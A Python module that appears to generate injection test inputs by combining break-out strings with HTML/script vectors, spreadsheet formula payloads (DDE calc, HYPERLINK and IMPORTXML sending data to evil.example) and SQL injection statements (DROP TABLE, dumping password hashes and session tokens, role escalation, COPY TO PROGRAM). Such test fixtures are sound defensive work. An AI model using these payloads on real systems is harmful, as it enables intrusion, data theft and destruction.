"""What strangers type in the hope that some program runs it: markup, formulas and statements.

Made of parts, so that every way to break out of a place meets every way to do harm there.
"""

RUN = "hit()"
"""What a script would run; the page under test says so on its console."""

BREAKING_OUT = ("", '">', "'>", "</textarea>", "</title></style></noscript>")
VEHICLES = (
    "<script>{}</script>",
    "<ScRiPt src=data:,{}></sCrIpT>",
    "<img src=x onerror={}>",
    "<IMG/SRC=x:/OnErRoR={}//",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<body onpageshow={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{} id=x>x</a>",
    "<form action=javascript:{}><button autofocus>x</button></form>",
    "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "<link rel=stylesheet href=data:text/css,*{{}} onload={}>",
    "<style>@import 'data:text/css,*{{}}';</style><style onload={}></style>",
)
WITHOUT_TAGS = (
    '" autofocus onfocus={} x="', "' autofocus onfocus={} x='", "` onfocus={} ", "javascript:{}",
    "{{{{ {} }}}}", "{{% if {} %}}x{{% endif %}}", "${{{}}}", "<!--#exec cmd='{}'-->", "-->{}<!--", "]]>{}",
)  # fmt: skip

MARKUP = tuple(
    vehicle.format(out + RUN) if out == "" else out + vehicle.format(RUN)
    for vehicle in VEHICLES
    for out in BREAKING_OUT
) + tuple(text.format(RUN) for text in WITHOUT_TAGS)

BEGINNINGS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\N{NO-BREAK SPACE}=", "\N{FULLWIDTH EQUALS SIGN}"
)  # fmt: skip
FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1;"klik")', "SUM(A1:A9)*cmd|'/c'!A1",
    'IMPORTXML("http://evil.example";"//a")', "DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
CELLS = tuple(beginning + formula for beginning in BEGINNINGS for formula in FORMULAS)

QUOTES = ("", "'", '"', "')", '")', "`", "\\'", "%27", "'\N{FULLWIDTH APOSTROPHE}", "''")
STATEMENTS = (
    " OR 1=1--", " OR 'a'='a", "; DROP TABLE decisions;--", " UNION SELECT NULL,username FROM people--",
    " UNION ALL SELECT password_hash FROM credentials--", "; UPDATE memberships SET role='administrator'--",
    " AND 1=(SELECT COUNT(*) FROM cases)--", " AND pg_sleep(9)--", "; SELECT pg_sleep(9)--",
    "||(SELECT group_concat(token_hash) FROM web_sessions)||", "; ATTACH DATABASE '/tmp/x' AS x;--",
    " ORDER BY 99--", " LIKE '%", "/**/OR/**/1=1#", " AND randomblob(1000000000)--",
    "; PRAGMA writable_schema=1--", "; COPY people TO PROGRAM 'id'--", " AND 1=load_extension('x')--",
    "\x00' OR 1=1--", "%' OR name LIKE '%",
)  # fmt: skip
INJECTIONS = tuple(quote + statement for quote in QUOTES for statement in STATEMENTS)
